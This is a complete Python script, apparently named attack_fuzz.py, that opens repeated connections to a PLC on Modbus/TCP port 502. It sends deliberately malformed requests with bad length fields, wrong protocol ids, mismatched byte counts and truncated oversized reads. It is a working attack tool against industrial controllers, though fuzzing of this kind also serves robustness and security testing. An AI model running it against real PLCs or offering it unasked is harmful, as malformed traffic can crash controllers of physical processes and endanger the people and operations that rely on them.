"""Broken Modbus/TCP messages, one a connection, from a seeded generator.

attack_fuzz.py PLC N
"""

import random
import socket
import struct
import sys

plc, number = sys.argv[1], int(sys.argv[2])
draw = random.Random(7)


def broken(turn: int) -> bytes:
    """A request of which one thing is wrong."""
    body = struct.pack("!BBHH", 1, draw.choice((3, 6, 16)), draw.randrange(100), 1)
    if turn % 4 == 0:  # a length that no Modbus message has
        return struct.pack("!HHH", turn, 0, draw.choice((0, 1, 400, 65535))) + body
    if turn % 4 == 1:  # another protocol id
        return struct.pack("!HHH", turn, draw.randrange(1, 65535), len(body)) + body
    if turn % 4 == 2:  # a write of many that says another byte count than it has
        body = struct.pack("!BBHHB", 1, 16, 0, draw.randrange(1, 120), 3) + b"\1\2\3"
        return struct.pack("!HHH", turn, 0, len(body)) + body
    body = struct.pack("!BBHH", 1, 3, 0, draw.randrange(2000, 65535))  # more registers than a message holds
    return struct.pack("!HHH", turn, 0, len(body) - 3) + body[:-3]


for turn in range(number):
    with socket.socket() as plain:
        plain.settimeout(0.2)
        plain.connect((plc, 502))
        plain.sendall(broken(turn))
        try:
            plain.recv(512)
        except (TimeoutError, ConnectionResetError):
            continue
